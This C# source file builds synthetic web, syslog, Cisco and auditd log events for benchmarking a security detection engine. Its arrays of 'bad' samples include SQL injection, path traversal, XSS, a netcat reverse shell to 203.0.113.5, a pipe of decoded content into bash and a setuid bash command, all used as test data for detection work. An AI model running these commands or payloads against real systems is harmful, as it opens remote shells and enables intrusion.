using System.Globalization;
using Soc.Detection.Events;

namespace Soc.Benchmarks.Detection;

/// <summary>
/// Deterministic benchmark lanes: LogEvents built directly with the field conventions agreed with the parser
/// engineer. About 1% of events carry attack-looking content so rules match now and then.
/// </summary>
public static class LaneGenerator
{
    public const int LaneSize = 100_000;

    private static readonly string[] Paths = ["/", "/index.html", "/api/v1/items", "/login", "/static/app.js", "/images/logo.png", "/search", "/cart/checkout", "/wp-login.php", "/admin"];
    private static readonly string[] Queries = ["", "q=shoes", "id=42", "page=2&sort=asc", "lang=vi", "ref=mail&utm_source=x", "token=abc123"];
    private static readonly string[] Agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)", "curl/8.4.0", "Googlebot/2.1 (+http://www.google.com/bot.html)"];
    private static readonly string[] BadQueries = ["id=1 UNION SELECT username,password FROM users", "file=../../../../etc/passwd", "q=<script>alert(1)</script>", "cmd=;wget http://203.0.113.5/x.sh"];
    private static readonly string[] Users = ["root", "admin", "alice", "bob", "deploy", "www-data", "backup"];
    private static readonly string[] Commands = ["/usr/bin/ls -la /var/log", "/usr/bin/cat /etc/hostname", "/usr/bin/python3 /opt/app/run.py", "/usr/sbin/sshd -D", "/usr/bin/systemctl status nginx", "/usr/bin/grep -r error /var/log/app"];
    private static readonly string[] BadCommands = ["/usr/bin/nc -e /bin/sh 203.0.113.5 4444", "/usr/bin/base64 -d /tmp/x | bash", "/usr/bin/chmod +s /bin/bash", "/usr/bin/wget http://203.0.113.5/x -O /tmp/x"];

    public static LogEvent[] Web(int count = LaneSize, int seed = 1)
    {
        var r = new Random(seed);
        var events = new LogEvent[count];
        for (var i = 0; i < count; i++)
        {
            var bad = r.Next(100) == 0;
            var path = Paths[r.Next(Paths.Length)];
            var query = bad ? BadQueries[r.Next(BadQueries.Length)] : Queries[r.Next(Queries.Length)];
            var method = r.Next(5) == 0 ? "POST" : "GET";
            var status = bad ? 404L : r.Next(20) == 0 ? 404L : 200L;
            var ip = $"198.51.{r.Next(256)}.{r.Next(256)}";
            var url = query.Length == 0 ? path : path + "?" + query;
            var agent = Agents[r.Next(Agents.Length)];
            var ev = Base(i, r.Next(2) == 0 ? "nginx.access" : "apache.access", "web1");
            ev.Set("source.ip", ip);
            ev.Set("source.address", ip);
            ev.Set("http.request.method", method);
            ev.Set("url.original", url);
            ev.Set("url.path", path);
            if (query.Length > 0)
            {
                ev.Set("url.query", query);
            }

            ev.Set("url.domain", "www.example.gov.vn");
            ev.Set("http.response.status_code", status);
            ev.Set("http.response.body.bytes", (long)r.Next(100, 50_000));
            ev.Set("user_agent.original", agent);
            ev.Set("http.request.referrer", "-");
            ev.Set("http.version", "1.1");
            ev.Message = $"{ip} - - [22/Nov/2026:03:00:00 +0700] \"{method} {url} HTTP/1.1\" {status} 512 \"-\" \"{agent}\"";
            events[i] = ev;
        }

        return events;
    }

    public static LogEvent[] Syslog(int count = LaneSize, int seed = 2)
    {
        var r = new Random(seed);
        var events = new LogEvent[count];
        for (var i = 0; i < count; i++)
        {
            var user = Users[r.Next(Users.Length)];
            var ip = $"203.0.113.{r.Next(256)}";
            var kind = r.Next(10);
            LogEvent ev;
            if (kind < 6)
            {
                ev = Base(i, "system.auth", "srv" + r.Next(20));
                var (proc, msg) = kind switch
                {
                    0 => ("sshd", $"Failed password for {user} from {ip} port {r.Next(1024, 65535)} ssh2"),
                    1 => ("sshd", $"Accepted publickey for {user} from {ip} port {r.Next(1024, 65535)} ssh2"),
                    2 => ("sudo", $"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"),
                    3 => ("sshd", $"pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
                    4 => ("su", $"pam_unix(su:session): session opened for user root by {user}(uid=1000)"),
                    _ => ("sshd", r.Next(200) == 0 ? "error: buffer overflow attempt detected" : $"Disconnected from user {user} {ip} port 22"),
                };
                ev.Set("process.name", proc);
                ev.Set("user.name", user);
                ev.Set("source.ip", ip);
                ev.Message = msg;
            }
            else
            {
                ev = Base(i, "system.syslog", "srv" + r.Next(20));
                var (proc, msg) = kind switch
                {
                    6 => ("CRON", $"({user}) CMD (/usr/local/bin/backup.sh)"),
                    7 => ("systemd", "Started Daily apt download activities."),
                    8 => ("kernel", r.Next(300) == 0 ? "segfault at 0 ip 00007f error 4 in libc.so.6" : "eth0: link up, 1000Mbps, full-duplex"),
                    _ => ("dhclient", $"DHCPACK of 10.0.{r.Next(256)}.{r.Next(256)} from 10.0.0.1"),
                };
                ev.Set("process.name", proc);
                ev.Message = msg;
            }

            ev.Set("process.pid", (long)r.Next(100, 60_000));
            events[i] = ev;
        }

        return events;
    }

    public static LogEvent[] Network(int count = LaneSize, int seed = 3)
    {
        var r = new Random(seed);
        var events = new LogEvent[count];
        for (var i = 0; i < count; i++)
        {
            var asa = r.Next(3) != 0;
            var ev = Base(i, asa ? "cisco.asa" : "cisco.ios", "fw" + r.Next(4));
            var src = $"10.{r.Next(256)}.{r.Next(256)}.{r.Next(256)}";
            var dst = $"192.0.2.{r.Next(256)}";
            var sport = (long)r.Next(1024, 65535);
            var dport = (long)(r.Next(4) == 0 ? 22 : r.Next(2) == 0 ? 443 : 80);
            ev.Set("source.ip", src);
            ev.Set("source.port", sport);
            ev.Set("destination.ip", dst);
            ev.Set("destination.port", dport);
            ev.Set("observer.vendor", "Cisco");
            if (asa)
            {
                var action = r.Next(4) == 0 ? "deny" : "built";
                ev.Set("event.action", action);
                ev.Set("observer.product", "ASA");
                ev.Message = action == "deny"
                    ? $"%ASA-4-106023: Deny tcp src outside:{src}/{sport} dst inside:{dst}/{dport} by access-group \"OUTSIDE_IN\""
                    : $"%ASA-6-302013: Built inbound TCP connection {r.Next()} for outside:{src}/{sport} ({src}/{sport}) to inside:{dst}/{dport} ({dst}/{dport})";
            }
            else
            {
                ev.Set("observer.product", "IOS");
                ev.Message = r.Next(500) == 0
                    ? "%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no dot1x port-control"
                    : $"%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/{r.Next(48)}, changed state to up";
            }

            events[i] = ev;
        }

        return events;
    }

    public static LogEvent[] Auditd(int count = LaneSize, int seed = 4)
    {
        var r = new Random(seed);
        var events = new LogEvent[count];
        for (var i = 0; i < count; i++)
        {
            var ev = Base(i, "auditd", "srv" + r.Next(20));
            var kind = r.Next(3);
            var uid = r.Next(3) == 0 ? "0" : "1000";
            ev.Set("auditd.uid", uid);
            ev.Set("user.id", uid);
            if (kind == 0)
            {
                var cmd = r.Next(100) == 0 ? BadCommands[r.Next(BadCommands.Length)] : Commands[r.Next(Commands.Length)];
                var args = cmd.Split(' ');
                ev.Set("auditd.type", "EXECVE");
                ev.Set("event.category", new List<object?> { "process" });
                ev.Set("event.type", "start");
                ev.Set("process.executable", args[0]);
                ev.Set("process.command_line", cmd);
                ev.Set("process.args", args.Cast<object?>().ToList());
                ev.Set("process.parent.pid", (long)r.Next(1, 60_000));
                ev.Set("auditd.argc", args.Length.ToString(CultureInfo.InvariantCulture));
                for (var a = 0; a < args.Length && a < 10; a++)
                {
                    ev.Set("auditd.a" + a.ToString(CultureInfo.InvariantCulture), args[a]);
                }

                ev.Message = $"type=EXECVE msg=audit(1763780400.{i % 1000:D3}:{i}): argc={args.Length} a0=\"{args[0]}\"";
            }
            else if (kind == 1)
            {
                var exe = Commands[r.Next(Commands.Length)].Split(' ')[0];
                ev.Set("auditd.type", "SYSCALL");
                ev.Set("auditd.syscall", r.Next(2) == 0 ? "59" : "execve");
                ev.Set("auditd.exe", exe);
                ev.Set("auditd.comm", Path.GetFileName(exe));
                ev.Set("auditd.key", r.Next(100) == 0 ? "susp_activity" : "exec");
                ev.Set("process.executable", exe);
                ev.Message = $"type=SYSCALL msg=audit(1763780400.{i % 1000:D3}:{i}): arch=c000003e syscall=59 success=yes exe=\"{exe}\"";
            }
            else
            {
                var name = r.Next(200) == 0 ? "/etc/sudoers" : "/var/lib/app/data" + r.Next(100);
                ev.Set("auditd.type", "PATH");
                ev.Set("auditd.name", name);
                ev.Set("auditd.nametype", "NORMAL");
                ev.Message = $"type=PATH msg=audit(1763780400.{i % 1000:D3}:{i}): item=0 name=\"{name}\" nametype=NORMAL";
            }

            events[i] = ev;
        }

        return events;
    }

    private static LogEvent Base(int i, string dataset, string host)
    {
        var ev = new LogEvent(24) { Timestamp = new DateTimeOffset(2026, 11, 22, 0, 0, 0, TimeSpan.Zero).AddMilliseconds(i * 10) };
        ev.Set(EcsFields.EventId, "ev-" + i.ToString(CultureInfo.InvariantCulture));
        ev.Set(EcsFields.EventDataset, dataset);
        ev.Set(EcsFields.HostName, host);
        ev.Set(EcsFields.Timestamp, ev.Timestamp.ToString("o", CultureInfo.InvariantCulture));
        return ev;
    }

    public static LogEvent[] Lane(string name) => name switch
    {
        "web" => Web(),
        "syslog" => Syslog(),
        "network" => Network(),
        "auditd" => Auditd(),
        _ => throw new ArgumentException("unknown lane " + name, nameof(name)),
    };
}
